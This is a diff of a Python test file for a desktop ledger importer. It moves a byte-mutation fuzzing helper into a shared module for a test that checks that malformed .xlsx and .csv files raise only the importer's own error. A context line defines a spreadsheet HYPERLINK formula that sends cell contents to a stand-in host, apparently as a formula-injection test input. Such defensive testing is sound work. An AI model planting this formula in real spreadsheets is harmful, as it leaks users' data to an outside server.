@@ -22,6 +22,7 @@ from teiretsu_desktop.services.ledger.columns import COLUMNS
 from teiretsu_desktop.services.ledger.files import read_table, write_template
 from teiretsu_desktop.services.ledger.transfer import export_ledger, import_ledger
 from tests.helpers.casework import new_case, new_person
+from tests.helpers.files import mutate
 from tests.helpers.stores import TemplateStore, copy_store, unlock_admin
 
 FORMULA = '=HYPERLINK("http://example.invalid/?"&A2&B2,"詳細")'
@@ -121,21 +122,6 @@ def test_8_control_characters_and_zip_bombs_are_refused(
         read_table(template)
 
 
-def _mutate(blob: bytearray, data: st.DataObject) -> bytes:
-    for _ in range(data.draw(st.integers(1, 4))):
-        action = data.draw(st.sampled_from(["flip", "cut", "insert", "splice"]))
-        at = data.draw(st.integers(0, max(0, len(blob) - 1)))
-        if action == "flip" and blob:
-            blob[at] ^= data.draw(st.integers(1, 255))
-        elif action == "cut":
-            del blob[at : at + data.draw(st.integers(1, 64))]
-        elif action == "insert":
-            blob[at:at] = data.draw(st.binary(min_size=1, max_size=64))
-        else:
-            blob[at:] = data.draw(st.binary(max_size=256))
-    return bytes(blob)
-
-
 @pytest.fixture(scope="module")
 def good_ledgers(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
     folder = tmp_path_factory.mktemp("ledgers")
@@ -156,6 +142,6 @@ def test_fuzzed_ledgers_raise_only_the_importers_error(
     """R-LED-01: whatever the bytes, the readers return a table or raise InvalidInput — nothing else."""
     suffix = data.draw(st.sampled_from([".xlsx", ".csv"]))
     path = tmp_path_factory.mktemp("fuzz") / f"ledger{suffix}"
-    path.write_bytes(_mutate(bytearray(good_ledgers[suffix]), data))
+    path.write_bytes(mutate(bytearray(good_ledgers[suffix]), data))
     with contextlib.suppress(InvalidInput):
         read_table(path)
